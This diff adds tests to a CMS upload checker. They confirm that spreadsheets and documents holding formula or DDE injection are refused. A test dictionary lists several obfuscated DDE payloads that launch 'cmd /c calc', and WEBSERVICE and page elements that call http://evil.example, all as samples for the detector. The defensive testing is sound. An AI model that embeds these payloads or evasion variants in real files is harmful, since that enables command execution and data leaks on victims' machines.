@@ -9,7 +9,7 @@ from django.test import Client
 from django.utils import translation
 from wagtail.models import UploadedFile
 
-from cms.files import pdf, sniffing, uploads
+from cms.files import office_parts, pdf, sniffing, uploads
 from cms.files.models import Document, Image
 from tests.files import hiding, samples
 
@@ -83,6 +83,54 @@ def test_an_object_stream_is_unpacked_within_bounds(monkeypatch):
     monkeypatch.setattr(pdf, "MOST_UNPACKED", 1000)
     big = hiding.whole(packed=b"<</A(" + b"x" * 5000 + b")>>")
     assert refused(uploads.check_document, "a.pdf", big).code == "harmful"
+
+
+HARMFUL_FORMULAS = {
+    "as Excel writes it": "<c><f>cmd|'/c calc'!A0</f></c>",
+    "a mark in place of a letter": "<c><f>cmd&#124;'/c calc'!A0</f></c>",
+    "another mark": "<c><f ca='1'>cmd&#x7C;'/c calc'!A0</f></c>",
+    "a bracket in an attribute": "<c><f ref='>'>cmd|'/c calc'!A0</f></c>",
+    "of the web": '<c><f>_xlfn.WEBSERVICE("http://evil.example")</f></c>',
+    "small letters": '<c><f\n>webService("http://evil.example")</f></c>',
+    "with a space of names": "<x:c><x:f>cmd|'/c calc'!A0</x:f></x:c>",
+    "a plain section": "<c><f><![CDATA[cmd|'/c calc'!A0]]></f></c>",
+    "cut by a comment": "<c><f>cmd<!-- </f> -->|'/c calc'!A0</f></c>",
+    "a link": "<ddeLink/>",
+    "a page": "<webPr url='http://evil.example/'/>",
+    "a field": "<fldSimple instr=' DDE cmd'/>",
+    "a field in pieces": "<fldChar fldCharType='begin'/><r><instrText> D</instrText></r><instrText>DE x</instrText>"
+    "<fldChar fldCharType='end'/>",
+}
+
+
+@pytest.mark.parametrize("name", HARMFUL_FORMULAS)
+def test_among_forty_thousand_cells_it_is_found(name):
+    formula = HARMFUL_FORMULAS[name]
+    content = hiding.book(**{"xl/worksheets/sheet9.xml": hiding.cells(formula, "x:" if "<x:" in formula else "")})
+    assert refused(uploads.check_document, "a.xlsx", content).code == "harmful"
+
+
+@pytest.mark.parametrize("formula", ["", "<c><f>SUM(A1:A9)</f></c>", '<c><f>A1&amp;B1&amp;"|"</f></c>', "<c><f/></c>"])
+def test_what_does_not_matter_of_many_cells_is_not_read_one_by_one(monkeypatch, formula):
+    """Forty million characters would take seconds, on the screen on which they are uploaded."""
+    told = []
+    start = office_parts._Part._start
+    monkeypatch.setattr(office_parts._Part, "_start", lambda self, *given: (told.append(given), start(self, *given)))
+    declared = '<?xml version="1.0" encoding="UTF-8"?>\n'
+    content = hiding.book(**{"xl/worksheets/sheet9.xml": hiding.cells(formula, before=declared)})
+    assert refused(uploads.check_document, "a.xlsx", content) is None
+    assert 0 < len(told) < 50
+
+
+def test_more_than_is_looked_through_is_refused_in_words(monkeypatch):
+    commented = hiding.book(**{"xl/worksheets/sheet9.xml": hiding.cells(before="<!-- a -->")})
+    wide = hiding.book(**{"xl/worksheets/sheet9.xml": hiding.cells().decode().encode("utf-16")})
+    assert refused(uploads.check_document, "a.xlsx", commented) is None
+    for bound, value in (("MOST_IN_FULL", 100_000), ("MOST_SEARCHED", 100_000)):
+        monkeypatch.setattr(office_parts, bound, value)
+        for content in (commented, wide):
+            with translation.override("zh-hans"):
+                assert "分成几个文件" in refused(uploads.check_document, "a.xlsx", content).messages[0]
 
 
 @pytest.fixture
